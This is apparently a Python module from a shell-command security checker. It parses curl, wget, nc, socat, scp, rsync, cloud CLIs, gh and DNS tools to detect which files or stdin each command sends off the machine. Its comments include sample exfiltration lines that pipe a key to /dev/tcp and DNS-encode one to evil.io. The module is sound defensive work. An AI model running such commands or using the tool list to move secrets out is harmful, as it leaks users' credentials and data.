"""Programs that send data off the machine, and what each one sends: the
files named in its arguments, its stdin, or a script of transfer commands;
and `/dev/tcp` redirects, which make any program a sender."""

import re
from collections.abc import Callable, Mapping
from types import MappingProxyType

from redline.fasttuple import NamedTuple
from redline.rules import argv
from redline.shell.invocation import Invocation
from redline.shell.lazy_regex import lazy_regex

_REMOTE = lazy_regex(r"\A(?:[a-z][\w+.-]*://|\[[^\]]+\]:|[\w.-]+@[\w.-]+:|[a-z0-9][\w.-]*:(?!//))",
                     re.IGNORECASE)  # fmt: skip
_STDIN = ("-", "/dev/stdin", "/proc/self/fd/0", "/dev/fd/0")
# bash's network pseudo-files: `cat key > /dev/tcp/host/port`.
_SOCKET = ("/dev/tcp/", "/dev/udp/")


class Sent(NamedTuple):
    """What a sender sends: file paths (raw values), its stdin, transfer commands."""

    files: tuple[str, ...] = ()
    stdin: bool = False
    text: str = ""


Reader = Callable[[Invocation], "Sent | None"]


def _names(text: str) -> frozenset[str]:
    return frozenset(text.split())


def is_remote(value: str) -> bool:
    """`host:path`, `user@host:path`, `s3://b/k`, `remote:` (rclone)."""
    # Every remote form has a `:`; without one the pattern need not compile.
    return ":" in value and bool(_REMOTE.match(value)) and not value.startswith(("/", "./", "~"))


def socket_redirect(inv: Invocation, writes: bool | None = None) -> bool:
    """A redirect to or from `/dev/tcp/...`; `writes` picks the direction."""
    for redirect in inv.redirects:
        target = redirect.target
        if target is None or not target.value.startswith(_SOCKET):
            continue
        if writes is None or redirect.writes is writes or redirect.op == "<>":
            return True
    return False


def args_from_stdin(inv: Invocation) -> bool:
    """`xargs CMD`, `parallel CMD`: what comes on stdin becomes arguments."""
    return inv.appended_args and any(v in ("xargs", "parallel") for v in inv.via)


def _stdin_named(files: tuple[str, ...]) -> bool:
    return any(f in _STDIN or f == "." for f in files)


_CURL_VALUES = _names(
    "data data-ascii data-binary data-raw data-urlencode json form form-string upload-file header "
    "user output config cert key cacert capath cookie cookie-jar url request proxy user-agent "
    "referer write-out max-time variable connect-timeout retry range output-dir dump-header "
    "resolve proxy-user oauth2-bearer connect-to netrc-file pass"
)
_RSYNC_VALUES = _names(
    "rsh rsync-path filter exclude include exclude-from include-from files-from temp-dir "
    "password-file log-file compare-dest copy-dest link-dest partial-dir backup-dir suffix chmod "
    "chown timeout port bwlimit max-size min-size out-format info debug block-size iconv"
)


def _curl(inv: Invocation) -> Sent:
    args = argv.parse(inv.values, "AbcCdDeEFHKmoPQrtTuUwxXyYz", _CURL_VALUES)
    files: list[str] = []
    for key, value in args.values:
        if key in ("-d", "--data", "--data-ascii", "--data-binary", "--json") and value[:1] == "@":
            files.append(value[1:])
        elif key in ("--data-urlencode", "--variable") and "@" in value:
            name, _, path = value.partition("@")
            if "=" not in name:
                files.append(path)
        elif key in ("-F", "--form"):
            rest = value.partition("=")[2]
            if rest[:1] in ("@", "<"):
                files.append(rest[1:].split(";")[0])
        elif key in ("-T", "--upload-file"):
            files.append(value)
    return Sent(tuple(files), _stdin_named(tuple(files)))


def _wget(inv: Invocation) -> Sent:
    args = argv.parse(inv.values, "OoaBeiItTwQPUlARDX",
                      ("post-file", "body-file", "post-data", "body-data", "header",
                       "output-document", "output-file", "user", "password"))  # fmt: skip
    files = args.value("--post-file", "--body-file")
    return Sent(files, _stdin_named(files))


def _httpie(inv: Invocation) -> Sent:
    long = _names("auth output session session-read-only cert cert-key verify print pretty style "
                  "timeout proxy raw")  # fmt: skip
    args = argv.parse(inv.values, "aoAbv", long)
    files = []
    for item in args.operands:
        match = re.match(r"\A[^=:@]*(?:=|:=|)@(.+)\Z", item)
        if match:
            files.append(match.group(1))
    return Sent(tuple(files), not args.has("-I", "--ignore-stdin"))


def _stream(inv: Invocation) -> Sent:
    """nc, telnet, openssl s_client, mail: what they read on stdin goes out."""
    if inv.name == "openssl" and inv.subcommand() != "s_client":
        return Sent()
    if inv.name in ("mail", "mailx", "mutt", "s-nail", "neomutt"):
        return Sent(inv.values, True)
    return Sent((), True)


def _socat(inv: Invocation) -> Sent:
    files = []
    for value in inv.values:
        kind, colon, rest = value.partition(":")
        spec = (rest if colon else kind).split(",")[0]
        named = kind.upper() in ("FILE", "OPEN", "GOPEN", "READ")
        if (colon and named) or (not colon and spec.startswith(("/", "~", "."))):
            files.append(spec)
        elif kind.upper() in ("EXEC", "SYSTEM"):
            files.extend(rest.split())
    return Sent(tuple(files), True)


def _query(inv: Invocation) -> Sent:
    return Sent()


def _copy(short_values: str, long_values: frozenset[str]) -> Reader:
    """scp, rsync: local sources are sent when the destination is remote."""

    def read(inv: Invocation) -> Sent:
        operands = argv.parse(inv.values, short_values, long_values).operands
        if len(operands) < 2 or not is_remote(operands[-1]):
            return Sent()
        return Sent(tuple(o for o in operands[:-1] if not is_remote(o)))

    return read


def _batch(inv: Invocation) -> Sent:
    """sftp, ftp, lftp: a script of `put` commands on stdin or in `-c`/`-e`."""
    args = argv.parse(inv.values, "bceiFopPuDlJBRsS", ())
    text = " ".join((*args.value("-c", "-e"), inv.stdin_text or ""))
    return Sent((), True, text)


def _cloud(verbs: tuple[str, ...], stdin_verbs: tuple[str, ...] = ()) -> Reader:
    """aws s3, gsutil, rclone, gcloud storage: local sources to a remote URL."""

    def read(inv: Invocation) -> Sent | None:
        operands = argv.parse(inv.values, "", ("profile", "region", "endpoint-url", "config",
                                               "exclude", "include", "acl")).operands  # fmt: skip
        operands = tuple(o for o in operands if o not in ("s3", "storage"))
        if not operands or operands[0] not in (*verbs, *stdin_verbs):
            return None
        if operands[0] in stdin_verbs:
            return Sent((), True)
        rest = operands[1:]
        if len(rest) < 2 or not is_remote(rest[-1]):
            return None
        files = tuple(o for o in rest[:-1] if not is_remote(o))
        return Sent(files, _stdin_named(files))

    return read


def _aws(inv: Invocation) -> Sent | None:
    args = argv.parse(inv.values, "", ("body", "profile", "region"))
    if args.value("--body"):
        return Sent(args.value("--body"))
    return _cloud(("cp", "sync", "mv"))(inv)


def _gh(inv: Invocation) -> Sent | None:
    args = argv.parse(inv.values, "FfbRtdp", ("field", "raw-field", "input", "body-file",
                                               "filename", "desc", "repo", "title"))  # fmt: skip
    words = args.operands
    if words[:1] == ("auth",):
        return None
    if words[:2] in (("gist", "create"), ("gist", "edit")):
        files = words[2:]
    elif words[:2] == ("release", "upload"):
        files = words[3:]
    else:
        values = args.value("-F", "--field", "--input", "--body-file")
        files = tuple(
            v.partition("@")[2] if "@" in v else v for v in values if "@" in v or "=" not in v
        )
    return Sent(files, _stdin_named(files))


SENDERS: Mapping[str, Reader] = MappingProxyType({
    "curl": _curl, "wget": _wget, "wget2": _wget, "http": _httpie, "https": _httpie,
    "xh": _httpie, "xhs": _httpie, "nc": _stream, "ncat": _stream, "netcat": _stream,
    "telnet": _stream, "openssl": _stream, "ssh": _stream, "mail": _stream, "mailx": _stream,
    "mutt": _stream, "neomutt": _stream, "s-nail": _stream, "sendmail": _stream,
    "msmtp": _stream, "ssmtp": _stream, "socat": _socat,
    "scp": _copy("cFiJloPSDX", frozenset()),
    "rsync": _copy("eBfTM", _RSYNC_VALUES),
    "sftp": _batch, "ftp": _batch, "lftp": _batch,
    "aws": _aws, "gsutil": _cloud(("cp", "mv", "rsync")), "gcloud": _cloud(("cp", "mv", "rsync")),
    "rclone": _cloud(("copy", "copyto", "sync", "move", "moveto"), ("rcat",)), "gh": _gh,
    # Names looked up or pinged carry data out too: `dig $(base64 key).evil.io`.
    "dig": _query, "nslookup": _query, "host": _query, "drill": _query, "ping": _query,
    "ping6": _query, "traceroute": _query, "whois": _query,
})  # fmt: skip
